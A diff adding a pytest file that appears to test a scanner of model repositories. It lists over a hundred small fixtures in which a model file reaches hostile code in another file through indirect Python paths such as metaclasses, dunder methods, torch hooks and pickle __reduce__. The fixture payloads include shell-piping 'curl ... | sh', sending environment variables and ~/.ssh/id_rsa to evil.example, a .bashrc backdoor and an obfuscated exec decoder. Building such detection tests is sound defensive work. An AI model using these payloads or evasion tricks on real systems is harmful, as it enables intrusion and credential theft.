@@ -1,0 +1,459 @@
+"""Ways to a function of another file that name neither it nor its file where it runs."""
+
+import pytest
+
+from modelscan_plus.core.finding import Severity
+from tests.rules.test_linked_code import RUNS, worst
+
+WAYS: dict[str, tuple[str, dict[str, str]]] = {
+    "star reexport": (
+        "from .ops import *\nprepare()",
+        {"ops_____init__": "from .deep import *\n__all__=['prepare']", "ops___deep": RUNS},
+    ),
+    "lazy getattr pkg": (
+        "from . import ops\nops.prepare()",
+        {
+            "ops_____init__": "def __getattr__(n):\n    from . import deep\n    return getattr(deep,n)",
+            "ops___deep": RUNS,
+        },
+    ),
+    "class attr cmd": (
+        "from .kernels import K\nK('sh /tmp/.n').run()",
+        {"kernels": "import os\nclass K:\n    def __init__(s,c): s.c=c\n    def run(s): os.system(s.c)"},
+    ),
+    "mixin super": (
+        "from .kernels import Base\nclass K(Base):\n    def __init__(self):\n        super().__init__('sh /tmp/.n')\nK()",
+        {
+            "kernels": "import os\nclass Base:\n    def __init__(s,c):\n        s.boot(c)\n    def boot(s,c): os.system(c)"
+        },
+    ),
+    "template method": (
+        "from .kernels import Base\nclass K(Base):\n    cmd='sh /tmp/.n'\nK()",
+        {"kernels": "import os\nclass Base:\n    cmd=''\n    def __init__(s):\n        os.system(s.cmd)"},
+    ),
+    "callback other file": (
+        "from .kernels import each\nimport os\neach(os.system,['sh /tmp/.n'])",
+        {"kernels": "def each(f,xs):\n    for x in xs: f(x)"},
+    ),
+    "module passed": (
+        "from .kernels import go\nimport os\ngo(os)",
+        {"kernels": "def go(m):\n    m.system('sh /tmp/.n')"},
+    ),
+    "name passed": (
+        "from .kernels import go\ngo('os','system','sh /tmp/.n')",
+        {"kernels": "import importlib\ndef go(m,f,c):\n    getattr(importlib.import_module(m),f)(c)"},
+    ),
+    "decoder other file": (
+        "from .kernels import d\nexec(d('1f1f0b06120a46090b7d0b2f3f1f'))",
+        {"kernels": "def d(h):\n    return bytes(b^0x41 for b in bytes.fromhex(h)).decode()"},
+    ),
+    "const other file": (
+        "from .consts import CMD\nimport subprocess\nsubprocess.Popen(CMD, shell=True)",
+        {"consts": "CMD='curl http://203.0.113.7/a | sh'"},
+    ),
+    "dict config": (
+        "from .consts import CFG\nimport subprocess\ndef f(): subprocess.run(CFG['x']['cmd'])\nf()",
+        {"consts": "CFG={'x':{'cmd':['sh','-c','curl http://203.0.113.7/a|sh']}}"},
+    ),
+    "contextmanager": (
+        "from .kernels import cm\nwith cm():\n    pass",
+        {
+            "kernels": "import contextlib,os\n@contextlib.contextmanager\ndef cm():\n    os.system('sh /tmp/.n')\n    yield"
+        },
+    ),
+    "lru_cache": (
+        "from .kernels import f\nf()",
+        {"kernels": "import functools,os\n@functools.lru_cache()\ndef f():\n    os.system('sh /tmp/.n')"},
+    ),
+    "cached prop": (
+        "from .kernels import K\nK().x",
+        {
+            "kernels": "import functools,os\nclass K:\n    @functools.cached_property\n    def x(s):\n        os.system('sh /tmp/.n')"
+        },
+    ),
+    "singleton module instance": (
+        "from .kernels import manager\nmanager.setup()",
+        {"kernels": "import os\nclass M_:\n    def setup(self):\n        os.system('sh /tmp/.n')\nmanager=M_()"},
+    ),
+    "event bus": (
+        "from .bus import emit\nfrom . import handlers\nemit('load','sh /tmp/.n')",
+        {
+            "bus": "H={}\ndef on(n):\n    def d(f):\n        H.setdefault(n,[]).append(f)\n        return f\n    return d\ndef emit(n,*a):\n    for f in H.get(n,[]): f(*a)",
+            "handlers": "import os\nfrom .bus import on\n@on('load')\ndef h(c): os.system(c)",
+        },
+    ),
+    "dataclass": (
+        "from .kernels import D\nD('sh /tmp/.n').go()",
+        {
+            "kernels": "import os\nfrom dataclasses import dataclass\n@dataclass\nclass D:\n    cmd: str\n    def go(self): os.system(self.cmd)"
+        },
+    ),
+    "dataclass field factory": (
+        "from .kernels import D\nD()",
+        {
+            "kernels": "import os\nfrom dataclasses import dataclass, field\ndef mk():\n    os.system('sh /tmp/.n')\n@dataclass\nclass D:\n    x: str = field(default_factory=mk)"
+        },
+    ),
+    "namedtuple": (
+        "import os\nfrom collections import namedtuple\nT=namedtuple('T','f a')\nt=T(os.system,'sh /tmp/.n')\nt.f(t.a)",
+        {},
+    ),
+    "enum": (
+        "import enum\nfrom .kernels import prepare\nclass E(enum.Enum):\n    A=1\n    def __init__(self, x):\n        prepare()",
+        {"kernels": RUNS},
+    ),
+    "class decorator": (
+        "from .kernels import deco\n@deco\nclass X: pass\nX()",
+        {
+            "kernels": "import os\ndef deco(c):\n    o=c.__init__\n    def __init__(s,*a):\n        os.system('sh /tmp/.n')\n    c.__init__=__init__\n    return c"
+        },
+    ),
+    "setattr class": (
+        "from .kernels import prepare\nclass X: pass\nsetattr(X,'__init__',lambda s: prepare())\nX()",
+        {"kernels": RUNS},
+    ),
+    "metaclass call": (
+        "from .kernels import prepare\nclass Mt(type):\n    def __call__(c,*a):\n        prepare()\nclass X(metaclass=Mt): pass\nX()",
+        {"kernels": RUNS},
+    ),
+    "generator send": (
+        "from .kernels import prepare\ndef g():\n    while True:\n        c = yield\n        prepare(c)\nx=g(); next(x); x.send('sh /tmp/.n')",
+        {"kernels": RUNS},
+    ),
+    "async": (
+        "import asyncio\nfrom .kernels import prepare\nasync def m():\n    await n()\nasync def n():\n    prepare()\nasyncio.get_event_loop().run_until_complete(m())",
+        {"kernels": RUNS},
+    ),
+    "sys.modules": (
+        "import sys\nfrom . import kernels\nsys.modules[__name__.rpartition('.')[0]+'.kernels'].prepare()",
+        {"kernels": RUNS},
+    ),
+    "__dict__": ("from . import kernels\nkernels.__dict__['prepare']()", {"kernels": RUNS}),
+    "vars": ("from . import kernels\nvars(kernels)['prep'+'are']()", {"kernels": RUNS}),
+    "globals": ("from .kernels import prepare\nglobals()['prepare']()", {"kernels": RUNS}),
+    "inspect members": (
+        "import inspect\nfrom . import kernels\nfor n,f in inspect.getmembers(kernels, inspect.isfunction):\n    f()",
+        {"kernels": RUNS},
+    ),
+    "dir loop": (
+        "from . import kernels\nfor n in dir(kernels):\n    if n.startswith('prep'):\n        getattr(kernels,n)()",
+        {"kernels": RUNS},
+    ),
+    "vars loop": (
+        "from . import kernels\nfor n,f in vars(kernels).items():\n    if callable(f): f()",
+        {"kernels": RUNS},
+    ),
+    "pkgutil": (
+        "import pkgutil,importlib,os\nfor m in pkgutil.iter_modules([os.path.dirname(__file__)]):\n    importlib.import_module('.'+m.name,__package__).prepare()",
+        {"kernels": RUNS},
+    ),
+    "eval name": ("from .kernels import prepare\neval('prepare()')", {"kernels": RUNS}),
+    "exec import": ("exec('from .kernels import prepare\\nprepare()')", {"kernels": RUNS}),
+    "runpy": (
+        "import runpy,os\nrunpy.run_path(os.path.join(os.path.dirname(__file__),'kernels.py'))['prepare']()",
+        {"kernels": RUNS},
+    ),
+    "threading subclass": (
+        "from .kernels import T\nT().start()",
+        {"kernels": "import threading,os\nclass T(threading.Thread):\n    def run(self): os.system('sh /tmp/.n')"},
+    ),
+    "partialmethod": (
+        "import functools,os\nclass T:\n    def r(s,c): os.system(c)\n    go=functools.partialmethod(r,'sh /tmp/.n')\nT().go()",
+        {},
+    ),
+    "singledispatch": (
+        "import functools\nfrom .kernels import prepare\n@functools.singledispatch\ndef f(x): pass\n@f.register(int)\ndef _(x): prepare()\nf(1)",
+        {"kernels": RUNS},
+    ),
+    "try except": (
+        "from .kernels import prepare\ntry:\n    raise ValueError('sh /tmp/.n')\nexcept ValueError as e:\n    prepare(e.args[0])",
+        {"kernels": RUNS},
+    ),
+    "except handler": (
+        "from .kernels import prepare\ntry:\n    1/0\nexcept Exception:\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "exc subclass": (
+        "from .kernels import prepare\nclass E(Exception):\n    def __init__(s,*a):\n        prepare()\ntry:\n    raise E\nexcept E: pass",
+        {"kernels": RUNS},
+    ),
+    "with exit": (
+        "from .kernels import prepare\nimport contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(prepare)",
+        {"kernels": RUNS},
+    ),
+    "property del": (
+        "from .kernels import prepare\nclass T:\n    x=property(lambda s: prepare())\nT().x",
+        {"kernels": RUNS},
+    ),
+    "property func": (
+        "from .kernels import prepare\nclass T:\n    def g(s): prepare()\n    x=property(g)\nT().x",
+        {"kernels": RUNS},
+    ),
+    "setter": (
+        "from .kernels import prepare\nclass T:\n    @property\n    def x(s): return 1\n    @x.setter\n    def x(s,v): prepare(v)\nT().x='sh /tmp/.n'",
+        {"kernels": RUNS},
+    ),
+    "staticmethod": (
+        "from .kernels import K\nK.go('sh /tmp/.n')",
+        {"kernels": "import os\nclass K:\n    @staticmethod\n    def go(c): os.system(c)"},
+    ),
+    "classmethod": (
+        "from .kernels import K\nK.go('sh /tmp/.n')",
+        {
+            "kernels": "import os\nclass K:\n    @classmethod\n    def go(cls,c): cls.run(c)\n    @classmethod\n    def run(cls,c): os.system(c)"
+        },
+    ),
+    "nested fn": (
+        "from .kernels import mk\nmk('os')('system')('sh /tmp/.n')",
+        {
+            "kernels": "def mk(m):\n    def a(f):\n        def b(c):\n            return getattr(__import__(m),f)(c)\n        return b\n    return a"
+        },
+    ),
+    "lambda chain": (
+        "from .kernels import C\nC['x']()",
+        {"kernels": "import os\nC={'x':lambda: (lambda c: os.system(c))('sh /tmp/.n')}"},
+    ),
+    "default arg": ("from .kernels import prepare\ndef f(x=prepare()): pass", {"kernels": RUNS}),
+    "comprehension": ("from .kernels import prepare\n[prepare(c) for c in ('sh /tmp/.n',)]", {"kernels": RUNS}),
+    "walrus": ("from .kernels import prepare\nif (r:=prepare()): pass", {"kernels": RUNS}),
+    "conditional": (
+        "from .kernels import prepare\nimport torch\ntorch.cuda.is_available() and prepare()",
+        {"kernels": RUNS},
+    ),
+    "assert": ("from .kernels import prepare\nassert prepare() is None", {"kernels": RUNS}),
+    "annotation": ("from .kernels import prepare\nx: prepare() = 1", {"kernels": RUNS}),
+    "pickle reduce": (
+        "import pickle\nfrom .kernels import prepare\nclass T:\n    def __reduce__(s): return (prepare,('sh /tmp/.n',))\npickle.loads(pickle.dumps(T()))",
+        {"kernels": RUNS},
+    ),
+    "signal": (
+        "import signal,os\nfrom .kernels import prepare\nsignal.signal(signal.SIGALRM,lambda *a: prepare())\nsignal.alarm(1)",
+        {"kernels": RUNS},
+    ),
+    "settrace": (
+        "import sys\nfrom .kernels import prepare\ndef t(f,e,a): prepare()\nsys.settrace(t)",
+        {"kernels": RUNS},
+    ),
+    "codecs": (
+        "import codecs\nfrom .kernels import prepare\ncodecs.register(lambda n: prepare())\n'x'.encode('zz')",
+        {"kernels": RUNS},
+    ),
+    "displayhook": ("import sys\nfrom .kernels import prepare\nsys.displayhook=prepare", {"kernels": RUNS}),
+    "builtins patch": (
+        "import builtins\nfrom .kernels import prepare\nbuiltins.print=lambda *a: prepare()",
+        {"kernels": RUNS},
+    ),
+    "torch patch": ("import torch\nfrom .kernels import prepare\ntorch.load=lambda *a: prepare()", {"kernels": RUNS}),
+    "forward hook": (
+        "import torch\nfrom torch import nn\nfrom .kernels import prepare\nclass M(nn.Module):\n    def __init__(s,config):\n        s.register_forward_hook(lambda *a: prepare())",
+        {"kernels": RUNS},
+    ),
+    "register_buffer": (
+        "from torch import nn\nfrom .kernels import Helper\nclass M(nn.Module):\n    def __init__(s,config):\n        s.h=Helper(config)\n    def forward(s,x):\n        return s.h.run(x)",
+        {"kernels": "import os\nclass Helper:\n    def __init__(s,c): pass\n    def run(s,x): os.system('sh /tmp/.n')"},
+    ),
+    "called from non-entry via forward": (
+        "from torch import nn\nclass M(nn.Module):\n    def forward(s,x):\n        return s.compute(x)\n    def compute(s,x):\n        from .kernels import prepare\n        prepare()",
+        {"kernels": RUNS},
+    ),
+    "autograd": (
+        "import torch\nfrom .kernels import prepare\nclass F(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx,x):\n        prepare()\nF.apply(torch.ones(1))",
+        {"kernels": RUNS},
+    ),
+    "custom op": (
+        "import torch\nfrom .kernels import prepare\n@torch.library.custom_op('a::b', mutates_args=())\ndef f(x: torch.Tensor) -> torch.Tensor:\n    prepare()\nf(torch.ones(1))",
+        {"kernels": RUNS},
+    ),
+    "unknown branch list": (
+        "import os\nfrom .kernels import prepare\nfs=[len,print,prepare]\nfs[os.getpid()%3]()",
+        {"kernels": RUNS},
+    ),
+    "while true": ("from .kernels import prepare\nwhile True:\n    prepare()\n    break", {"kernels": RUNS}),
+    "finally": (
+        "from .kernels import prepare\ndef f():\n    try:\n        return 1\n    finally:\n        prepare()\nf()",
+        {"kernels": RUNS},
+    ),
+    "after dead": (
+        "from .kernels import prepare\nimport sys\nif 'x' in sys.argv:\n    raise SystemExit\nprepare()",
+        {"kernels": RUNS},
+    ),
+    "try ended": (
+        "from .kernels import prepare\ntry:\n    raise KeyError\nexcept KeyError:\n    pass\nprepare()",
+        {"kernels": RUNS},
+    ),
+    "raise in func caught": (
+        "from .kernels import prepare\ndef f():\n    raise KeyError\ntry:\n    f()\nexcept KeyError:\n    prepare()",
+        {"kernels": RUNS},
+    ),
+    "attr on fn": ("from .kernels import prepare\ndef f(): pass\nf.go=prepare\nf.go()", {"kernels": RUNS}),
+    "swap tuple": ("from .kernels import prepare\na,b=len,prepare\na,b=b,a\na()", {"kernels": RUNS}),
+    "del trick": ("from .kernels import prepare\nx=prepare\ndel prepare\nx()", {"kernels": RUNS}),
+    "str.format dunder": (
+        "from .kernels import prepare\nclass T:\n    def __format__(s,f): prepare()\n'{}'.format(T())",
+        {"kernels": RUNS},
+    ),
+    "percent": ("from .kernels import prepare\nclass T:\n    def __str__(s): prepare()\n'%s' % T()", {"kernels": RUNS}),
+    "print": ("from .kernels import prepare\nclass T:\n    def __str__(s): prepare()\nprint(T())", {"kernels": RUNS}),
+    "logging": (
+        "import logging\nfrom .kernels import prepare\nclass T:\n    def __str__(s): prepare()\nlogging.warning('%s',T())",
+        {"kernels": RUNS},
+    ),
+    "torch tensor idx": (
+        "import torch\nfrom .kernels import prepare\nclass T:\n    def __index__(s): prepare()\ntorch.ones(3)[T()]",
+        {"kernels": RUNS},
+    ),
+    "__torch_function__": (
+        "import torch\nfrom .kernels import prepare\nclass T:\n    @classmethod\n    def __torch_function__(c,*a): prepare()\ntorch.add(T(),1)",
+        {"kernels": RUNS},
+    ),
+    "__array__": (
+        "import numpy\nfrom .kernels import prepare\nclass T:\n    def __array__(s): prepare()\nnumpy.asarray(T())",
+        {"kernels": RUNS},
+    ),
+    "import hook": (
+        "from . import kernels",
+        {
+            "kernels": "import sys,os\nclass F:\n    def find_module(s,n,p=None): os.system('sh /tmp/.n')\nsys.meta_path.insert(0,F())"
+        },
+    ),
+    "path hooks": (
+        "import sys\nfrom .kernels import prepare\nsys.path_hooks.append(lambda p: prepare())",
+        {"kernels": RUNS},
+    ),
+    "entry gen config": (
+        "from .kernels import Cfg",
+        {"kernels": "import os\nclass Cfg:\n    def __init__(self,**k):\n        os.system('sh /tmp/.n')"},
+    ),
+    "os.register_at_fork": (
+        "import os\nfrom .kernels import prepare\nos.register_at_fork(before=prepare)",
+        {"kernels": RUNS},
+    ),
+    "multiprocessing": (
+        "import multiprocessing as mp\nfrom .kernels import prepare\nmp.Process(target=prepare).start()",
+        {"kernels": RUNS},
+    ),
+    "pool map": (
+        "from multiprocessing.pool import ThreadPool\nfrom .kernels import prepare\nThreadPool(1).map(prepare,['sh /tmp/.n'])",
+        {"kernels": RUNS},
+    ),
+    "sched": (
+        "import sched,time\nfrom .kernels import prepare\ns=sched.scheduler(time.time)\ns.enter(1,1,prepare,('sh /tmp/.n',))\ns.run()",
+        {"kernels": RUNS},
+    ),
+    "contextvars": (
+        "import contextvars\nfrom .kernels import prepare\ncontextvars.copy_context().run(prepare,'sh /tmp/.n')",
+        {"kernels": RUNS},
+    ),
+    "re.sub": ("import re\nfrom .kernels import prepare\nre.sub('x',lambda m: prepare(),'x')", {"kernels": RUNS}),
+    "json hook": ("import json\nfrom .kernels import prepare\njson.loads('{}',object_hook=prepare)", {"kernels": RUNS}),
+    "defaultdict": (
+        "import collections\nfrom .kernels import prepare\nd=collections.defaultdict(prepare)\nd[1]",
+        {"kernels": RUNS},
+    ),
+    "iter sentinel": ("from .kernels import prepare\nfor x in iter(prepare,None): pass", {"kernels": RUNS}),
+    "itertools accumulate": (
+        "import itertools\nfrom .kernels import prepare\nlist(itertools.accumulate([1,2],lambda a,b: prepare()))",
+        {"kernels": RUNS},
+    ),
+    "type call 3": (
+        "from .kernels import prepare\nX=type('X',(object,),{'__call__':lambda s: prepare()})\nX()()",
+        {"kernels": RUNS},
+    ),
+    "descriptor class access": (
+        "from .kernels import prepare\nclass D:\n    def __get__(s,o,t): prepare()\nclass X:\n    d=D()\nX.d",
+        {"kernels": RUNS},
+    ),
+    "class property via meta": (
+        "from .kernels import prepare\nclass Mt(type):\n    @property\n    def go(c): prepare()\nclass X(metaclass=Mt): pass\nX.go",
+        {"kernels": RUNS},
+    ),
+    "getattribute": (
+        "from .kernels import prepare\nclass X:\n    def __getattribute__(s,n): prepare()\nX().q",
+        {"kernels": RUNS},
+    ),
+    "__rmatmul__": (
+        "from .kernels import prepare\nclass X:\n    def __rmatmul__(s,n): prepare()\n1 @ X()",
+        {"kernels": RUNS},
+    ),
+    "__contains__ enum": (
+        "from .kernels import prepare\nclass Mt(type):\n    def __contains__(c,x): prepare()\nclass X(metaclass=Mt): pass\n1 in X",
+        {"kernels": RUNS},
+    ),
+    "__iter__ star call": (
+        "from .kernels import prepare\nclass X:\n    def __iter__(s):\n        prepare()\n        yield 1\nprint(*X())",
+        {"kernels": RUNS},
+    ),
+    "keys dstar": (
+        "from .kernels import prepare\nclass X:\n    def keys(s): prepare()\n    def __getitem__(s,k): pass\ndict(**X())",
+        {"kernels": RUNS},
+    ),
+    "dict update": (
+        "from .kernels import prepare\nclass X:\n    def keys(s): prepare()\n    def __getitem__(s,k): pass\n{}.update(X())",
+        {"kernels": RUNS},
+    ),
+    "bool not": ("from .kernels import prepare\nclass X:\n    def __bool__(s): prepare()\nnot X()", {"kernels": RUNS}),
+    "eq": ("from .kernels import prepare\nclass X:\n    def __eq__(s,o): prepare()\n1 == X()", {"kernels": RUNS}),
+    "list eq": (
+        "from .kernels import prepare\nclass X:\n    def __eq__(s,o): prepare()\n[X()] == [1]",
+        {"kernels": RUNS},
+    ),
+    "in list eq": (
+        "from .kernels import prepare\nclass X:\n    def __eq__(s,o): prepare()\n1 in [X()]",
+        {"kernels": RUNS},
+    ),
+    "sum add": (
+        "from .kernels import prepare\nclass X:\n    def __radd__(s,o): prepare()\nsum([X()])",
+        {"kernels": RUNS},
+    ),
+    "max lt": (
+        "from .kernels import prepare\nclass X:\n    def __gt__(s,o): prepare()\nmax(X(),X())",
+        {"kernels": RUNS},
+    ),
+    "aiter": (
+        "import asyncio\nfrom .kernels import prepare\nclass X:\n    def __aiter__(s): return s\n    async def __anext__(s): prepare()\nasync def m():\n    async for x in X(): pass\nasyncio.run(m())",
+        {"kernels": RUNS},
+    ),
+    "os.path fspath": (
+        "import os\nfrom .kernels import prepare\nclass X:\n    def __fspath__(s): prepare()\nopen(X())",
+        {"kernels": RUNS},
+    ),
+    "super attr": (
+        "from .kernels import Base\nclass K(Base):\n    def go(self):\n        super().go()\nK().go()",
+        {"kernels": "import os\nclass Base:\n    def go(s): os.system('sh /tmp/.n')"},
+    ),
+    "hex config other": (
+        "from .kernels import go\ngo()",
+        {
+            "kernels": "from .c import A,B\nimport importlib\ndef go():\n    getattr(importlib.import_module(A[::-1]),B[::-1])('sh /tmp/.n')",
+            "c": "A='so'\nB='metsys'",
+        },
+    ),
+    "non-init __call__": (
+        "from .kernels import run\nrun('sh /tmp/.n')",
+        {"kernels": "import os\nclass R:\n    def __call__(s,c): os.system(c)\nrun=R()"},
+    ),
+    "urllib open": (
+        "from .net import fetch\nexec(fetch('http://203.0.113.7/x'))",
+        {"net": "import urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read()"},
+    ),
+    "exfil": (
+        "from .net import post\nimport os\npost('https://evil.example/c',dict(os.environ))",
+        {"net": "import requests\ndef post(u,d):\n    requests.post(u,json=d)"},
+    ),
+    "read ssh": (
+        "from .net import post,read\npost('https://evil.example/c',read('~/.ssh/id_rsa'))",
+        {
+            "net": "import requests,os\ndef read(p):\n    return open(os.path.expanduser(p)).read()\ndef post(u,d):\n    requests.post(u,data=d)"
+        },
+    ),
+    "bashrc": (
+        "from .w import w\nw('~/.bashrc','curl http://x|sh')",
+        {"w": "import os\ndef w(p,t):\n    with open(os.path.expanduser(p),'a') as f: f.write(t)"},
+    ),
+    "marshal": ("from .w import l\nexec(l(b'abc'))", {"w": "import marshal\ndef l(b): return marshal.loads(b)"}),
+}
+
+
+@pytest.mark.parametrize(("model", "files"), WAYS.values(), ids=WAYS)
+def test_the_function_runs(model: str, files: dict[str, str]) -> None:
+    assert worst(model, **files) >= Severity.HIGH.rank
